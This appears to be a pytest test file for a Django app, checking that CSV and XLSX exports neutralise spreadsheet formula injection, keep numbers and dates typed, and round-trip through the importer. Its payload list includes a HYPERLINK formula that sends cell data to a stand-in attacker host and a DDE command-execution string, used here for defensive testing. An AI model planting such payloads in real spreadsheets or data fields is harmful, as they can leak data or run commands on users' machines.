"""Issue 15 item 2: formula injection in exports. Every export goes through
core.spreadsheet: a text cell that starts like a formula is text (neutralised), numbers and
dates stay numbers and dates."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from sweetspot.clients.models import Company
from sweetspot.core import spreadsheet

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def test_writer_neutralises_text_and_keeps_numbers_and_dates():
    rows = [[p, -5, Decimal("-12.50"), dt.date(2026, 1, 2), 3.5, None, True] for p in PAYLOADS]
    headers = ["text", "int", "money", "date", "float", "blank", "flag"]
    book = openpyxl.load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(headers, rows)))
    sheet = book.active
    assert sheet is not None
    for (text, number, money, date, flt, blank, flag), payload in zip(
        sheet.iter_rows(min_row=2), PAYLOADS, strict=True
    ):
        assert text.data_type == "s"  # text, not a formula
        assert text.value.replace("\n", "\r") == "'" + payload.replace("\n", "\r")  # XML: CR→LF
        assert number.value == -5 and number.data_type == "n"
        assert money.value == -12.5 and money.data_type == "n"
        assert date.is_date and date.value.date() == dt.date(2026, 1, 2)
        assert flt.value == 3.5
        assert blank.value in (None, "")
        assert flag.value == "yes"
    text = spreadsheet.csv_bytes(headers, rows).decode()
    lines = list(csv.reader(io.StringIO(text)))
    assert [line[0] for line in lines[1:]] == ["'" + p for p in PAYLOADS]
    assert lines[1][1:5] == ["-5", "-12.50", "2026-01-02", "3.5"]  # numbers never prefixed
    assert all(spreadsheet.unquote(spreadsheet.neutralise(p)) == p for p in PAYLOADS)


def test_control_characters_do_not_break_the_xlsx():
    data = spreadsheet.xlsx_bytes(["a"], [["bell\x07 and nul\x00"]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None and sheet["A2"].value == "bell and nul"


def _evil_company(harbor: Company) -> None:
    # Written past the services, as an import of old data or another tool might have.
    Company.objects.filter(pk=harbor.pk).update(name=PAYLOADS[0], industry="@SUM(A1:A9)")


def test_client_book_xlsx_export_has_text_not_formulas(client_for, harbor):
    _evil_company(harbor)
    r = client_for("dan").get("/clients/export/?format=xlsx")
    assert r.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    name = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert name.data_type == "s" and name.value == "'" + PAYLOADS[0]
    pcs = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("pcs") + 1)
    assert isinstance(pcs.value, int)  # numbers stay numbers


def test_client_book_csv_and_record_exports_are_neutralised(client_for, harbor):
    _evil_company(harbor)
    text = client_for("dan").get("/clients/export/?format=csv").content.decode()
    assert f"'{PAYLOADS[0]}".replace('"', '""') in text
    assert "'@SUM(A1:A9)" in text
    r = client_for("sam").get(f"/clients/{harbor.pk}/export/?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert sheet["A2"].value == "'" + PAYLOADS[0]


def test_skills_matrix_export_uses_the_writer(client_for, full_demo):
    from sweetspot.team.models import Technician

    Technician.objects.filter(pk=Technician.objects.order_by("pk")[0].pk).update(name="=1+1")
    for fmt in ["csv", "xlsx"]:
        r = client_for("dan").get(f"/team/matrix/export/?format={fmt}")
        assert r.status_code == 200
        if fmt == "xlsx":
            sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
            assert sheet is not None
            assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
            assert "'=1+1" in [c.value for c in sheet["A"]]
        else:
            assert "'=1+1" in r.content.decode()


def test_an_exported_file_imports_back_unchanged(client_for, harbor):
    """The importer strips the apostrophe the writer added: the round trip keeps the name."""
    from sweetspot.clients import importer

    Company.objects.filter(pk=harbor.pk).update(name="-Harbor Dental", industry="=Dental")
    for fmt in ["csv", "xlsx"]:
        body = client_for("dan").get(f"/clients/{harbor.pk}/export/?format={fmt}").content
        rows = importer.read_file(body, fmt)
        assert rows[0]["values"]["company"] == "-Harbor Dental"
        assert rows[0]["values"]["industry"] == "=Dental"
